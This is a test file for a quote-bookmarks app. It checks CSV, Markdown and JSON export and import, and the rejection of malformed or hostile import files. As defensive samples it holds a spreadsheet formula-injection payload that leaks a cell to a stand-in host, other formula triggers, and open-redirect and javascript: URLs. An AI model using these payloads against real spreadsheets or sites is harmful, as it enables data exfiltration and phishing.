import { describe, expect, it } from 'vitest'
import { snapshotQuote, sortBookmarks } from '@/domain/bookmarks/bookmark'
import { CSV_COLUMNS, toCsv, toExportJson, toMarkdown } from '@/domain/bookmarks/export-formats'
import {
  checkImportSize,
  importChangesNothing,
  MAX_IMPORT_BYTES,
  parseImportFile,
  previewImport,
} from '@/domain/bookmarks/import-file'
import { mergeIncoming } from '@/domain/bookmarks/merge'
import { emptyPersistedState } from '@/domain/bookmarks/persisted-state'
import { resolveBookmark } from '@/domain/bookmarks/resolve'
import { createBookmarksStore } from '@/features/bookmarks/store/bookmarks-store'
import { bookmarksModel } from '../../fixtures/bookmarks-corpus'
import { createOrigin } from './fake-storage'
import { testClock } from './test-clock'

const BASE = 'https://explorer.example/app/'

function collection() {
  const tab = createOrigin().tab()
  const store = createBookmarksStore({ getStorage: () => tab.storage, clock: testClock('x') })
  for (const id of ['q31-unity', 'q32-youth', 'q31-language']) {
    const quote = bookmarksModel.quoteById.get(id)
    if (!quote) throw new Error(id)
    store.getState().addBookmark(id, snapshotQuote(bookmarksModel, quote))
  }
  store.getState().setNote('q31-unity', 'Line one, with comma\nline "two"')
  store.getState().setNote('q32-youth', 'For the *youth* section')
  store.getState().setSort('custom')
  store.getState().moveBookmark('q31-unity', 'up', ['q31-language', 'q32-youth', 'q31-unity'])
  store.getState().saveView('Language, 32nd', '/quotes?topic=language&session=32')
  return store
}

/** A minimal RFC 4180 reader, independent of the writer, to check what a spreadsheet sees. */
function readCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"'
        i++
      } else if (c === '"') quoted = false
      else field += c
    } else if (c === '"') quoted = true
    else if (c === ',') {
      row.push(field)
      field = ''
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field)
      rows.push(row)
      row = []
      field = ''
      i++
    } else field += c
  }
  return rows
}

describe('CSV export', () => {
  it('never lets a note, an imported quote text or citation become a spreadsheet formula', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
      '- see ch.2',
      '+1+1',
      '@SUM(A1:A2)',
      '\t=1+1',
      '\r=1+1',
    ]
    const quote = bookmarksModel.quoteById.get('q31-unity')
    if (!quote) throw new Error('fixture')
    const snapshot = snapshotQuote(bookmarksModel, quote)
    // Imported bookmarks no longer in the corpus show the file's own text and citation.
    const { state } = mergeIncoming(
      emptyPersistedState(),
      hostile.map((text, i) => ({
        quoteId: `zz-import-${i}`,
        note: text,
        snapshot: { ...snapshot, text, citation: text, speakerName: text, sourceTitle: text },
      })),
      () => ({ at: '2024-05-01T00:00:00.000Z', rev: 'r' }),
    )
    const items = Object.values(state.bookmarks).map((b) => resolveBookmark(b, bookmarksModel))
    const rows = readCsv(toCsv(items, BASE).slice(1)).slice(1)
    expect(rows).toHaveLength(hostile.length)
    for (const row of rows) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
      const original = hostile[Number(row[8]?.split('-').pop())]
      // After the quote prefix a spreadsheet shows the user's text, unchanged.
      expect(row[6]).toBe(`'${original}`)
      expect(row[0]).toBe(`'${original}`)
      expect(row[10]).toBe(`'${original}`)
    }
  })

  it('one row per bookmark with the documented columns; round-trips through a CSV reader', () => {
    const store = collection()
    const items = Object.values(store.getState().bookmarks).map((b) =>
      resolveBookmark(b, bookmarksModel),
    )
    const csv = toCsv(items, BASE)
    expect(csv.startsWith('\uFEFF')).toBe(true)
    expect(csv.endsWith('\r\n')).toBe(true)
    const rows = readCsv(csv.slice(1))
    expect(rows[0]).toEqual([...CSV_COLUMNS])
    expect(rows).toHaveLength(1 + items.length)
    const unity = rows.find((r) => r[8] === 'q31-unity')
    expect(unity?.[0]).toBe(bookmarksModel.quoteById.get('q31-unity')?.text)
    expect(unity?.[1]).toBe('Kassym-Jomart Tokayev')
    expect(unity?.[2]).toBe('XXXI session')
    expect(unity?.[3]).toBe('2022-04-29')
    expect(unity?.[4]).toBe('Factsheet on the XXXI session')
    expect(unity?.[5]).toBe('Unity')
    expect(unity?.[6]).toBe('Line one, with comma\nline "two"')
    expect(unity?.[7]).toBe('https://explorer.example/app/quotes/q31-unity')
    const youth = rows.find((r) => r[8] === 'q32-youth')
    expect(youth?.[0]).toContain('\n') // a line break inside the quote survives
  })
})

describe('Markdown export', () => {
  it('quotes each statement with its citation, link and note, escaping formatting', () => {
    const store = collection()
    const items = sortBookmarks(Object.values(store.getState().bookmarks), 'custom').map((b) =>
      resolveBookmark(b, bookmarksModel),
    )
    const md = toMarkdown(items, {
      title: 'My brief',
      appBaseUrl: BASE,
      exportedAt: '2024-05-02T00:00:00Z',
    })
    expect(md).toMatch(/^# My brief\n/)
    expect(md).toContain('## 1. Kassym-Jomart Tokayev, XXXI session (29 April 2022)')
    expect(md).not.toContain('Knowledge of the state language') // not bookmarked
    expect(md).toContain('> “Young people are the future of our country;\n> we must hear them.”')
    expect(md).toContain('Reported speech.')
    expect(md).toContain('<https://explorer.example/app/quotes/q32-youth>')
    expect(md).toContain('**Note:** For the \\*youth\\* section')
    expect(md).toContain('XXXII session of the Assembly of People of Kazakhstan, 27 April 2023')
  })
})

describe('JSON export → import', () => {
  it('round trip into an empty collection gives the identical collection', () => {
    const store = collection()
    const state = store.getState()
    const ordered = sortBookmarks(Object.values(state.bookmarks), 'custom')
    const json = toExportJson(state, ordered, '2024-05-02T00:00:00.000Z')

    const parsed = parseImportFile(json, 'bookmarks.json')
    if (!parsed.ok) throw new Error(parsed.problem)
    const empty = emptyPersistedState()
    const preview = previewImport(empty, parsed.file, bookmarksModel)
    expect(preview.toAdd.map((b) => b.quoteId)).toEqual(ordered.map((b) => b.quoteId))
    expect(preview.unknown).toEqual([])
    expect(preview.viewsToAdd.map((v) => v.name)).toEqual(['Language, 32nd'])

    let n = 0
    const merged = mergeIncoming(empty, preview.toMerge, () => ({
      at: '2024-06-01T00:00:00.000Z',
      rev: `i${++n}`,
    })).state
    const essentials = (bookmarks: typeof merged.bookmarks) =>
      Object.values(bookmarks)
        .map(({ quoteId, addedAt, note, snapshot, order }) => ({
          quoteId,
          addedAt,
          note,
          snapshot,
          order,
        }))
        .sort((a, b) => a.quoteId.localeCompare(b.quoteId))
    expect(essentials(merged.bookmarks)).toEqual(essentials(state.bookmarks))
    expect(sortBookmarks(Object.values(merged.bookmarks), 'custom').map((b) => b.quoteId)).toEqual(
      ordered.map((b) => b.quoteId),
    )
  })

  it('importing the same file again changes nothing', () => {
    const state = collection().getState()
    const json = toExportJson(state, Object.values(state.bookmarks), '2024-05-02T00:00:00.000Z')
    const parsed = parseImportFile(json)
    if (!parsed.ok) throw new Error(parsed.problem)
    const preview = previewImport(state, parsed.file, bookmarksModel)
    expect(preview.toAdd).toEqual([])
    expect(preview.alreadyPresent).toHaveLength(3)
    expect(importChangesNothing(preview)).toBe(true)
  })
})

describe('bad import files', () => {
  it('names the problem: not JSON', () => {
    const r = parseImportFile('Quote,Speaker\n"a",b', 'bookmarks.csv')
    expect(r.ok).toBe(false)
    if (!r.ok) expect(r.problem).toMatch(/“bookmarks\.csv” is not a JSON file/)
  })

  it('names the problem: JSON of another kind', () => {
    const r = parseImportFile('{"hello": 1}', 'x.json')
    expect(!r.ok && r.problem).toMatch(/not a bookmarks export/)
  })

  it('names the problem and where: a bad entry is set aside, the others kept', () => {
    const r = parseImportFile(
      JSON.stringify({
        format: 'assembly-explorer-bookmarks',
        formatVersion: 1,
        bookmarks: [{ quoteId: 'ok-id' }, { quoteId: 'Not An Id!' }],
      }),
      'x.json',
    )
    if (!r.ok) throw new Error(r.problem)
    expect(r.file.bookmarks.map((b) => b.quoteId)).toEqual(['ok-id'])
    expect(r.file.setAside).toEqual([
      expect.objectContaining({
        path: 'bookmarks[1]',
        field: 'quoteId',
        label: 'bookmark “Not An Id!”',
      }),
    ])
  })

  it('names the problem and where: the frame is wrong', () => {
    const r = parseImportFile(
      JSON.stringify({ format: 'assembly-explorer-bookmarks', formatVersion: 1, bookmarks: {} }),
      'x.json',
    )
    expect(!r.ok && r.problem).toMatch(/wrong shape at bookmarks/)
  })

  it.each([
    '//evil.example/phish',
    '/\\evil.example/x',
    'javascript:alert(1)',
    '/%2F%2Fevil.example/x',
    '/%5Cevil.example/x',
  ])('sets aside a saved view that leads off the app (%j), naming the entry', (url) => {
    const r = parseImportFile(
      JSON.stringify({
        format: 'assembly-explorer-bookmarks',
        formatVersion: 1,
        bookmarks: [],
        savedViews: [
          { id: 'v1', name: 'Fine', url: '/quotes', createdAt: '2024-05-01T00:00:00.000Z' },
          { id: 'v2', name: 'Phish', url, createdAt: '2024-05-01T00:00:00.000Z' },
        ],
      }),
      'x.json',
    )
    const views = r.ok ? r.file.savedViews.map((view) => view.url) : []
    expect(views).not.toContain(url)
    if (!r.ok) throw new Error(r.problem)
    const [entry, ...others] = r.file.setAside
    expect(others).toEqual([])
    expect(entry).toMatchObject({
      path: 'savedViews[1]',
      label: 'saved view “Phish”',
      field: 'url',
    })
    expect(entry?.reason).toContain('not a page of this app')
  })

  it('names the problem: a newer format', () => {
    const r = parseImportFile(
      JSON.stringify({ format: 'assembly-explorer-bookmarks', formatVersion: 3, bookmarks: [] }),
      'x.json',
    )
    expect(!r.ok && r.problem).toMatch(/newer version/)
  })

  it('refuses files that are too large before reading them', () => {
    expect(checkImportSize(20 * 1024 * 1024, 'big.json')).toMatch(/20\.0 MB/)
    expect(checkImportSize(MAX_IMPORT_BYTES, 'ok.json')).toBeNull()
    expect(checkImportSize(0, 'empty.json')).toMatch(/empty/)
  })

  it('reports unknown ids (not in corpus, no saved text) as skipped', () => {
    const r = parseImportFile(
      JSON.stringify({
        format: 'assembly-explorer-bookmarks',
        formatVersion: 1,
        bookmarks: [{ quoteId: 'no-such-quote' }, { quoteId: 'q32-language', note: 'n' }],
      }),
    )
    if (!r.ok) throw new Error(r.problem)
    const preview = previewImport(emptyPersistedState(), r.file, bookmarksModel)
    expect(preview.unknown).toEqual(['no-such-quote'])
    expect(preview.toAdd.map((b) => b.quoteId)).toEqual(['q32-language'])
  })

  it('accepts a kept-aside copy of stored data (v0 envelope) so it can be recovered', () => {
    const r = parseImportFile(
      JSON.stringify({ state: { ids: ['q31-unity'], notes: { 'q31-unity': 'old' } }, version: 0 }),
    )
    expect(r.ok && r.file.bookmarks).toEqual([
      expect.objectContaining({ quoteId: 'q31-unity', note: 'old' }),
    ])
  })
})
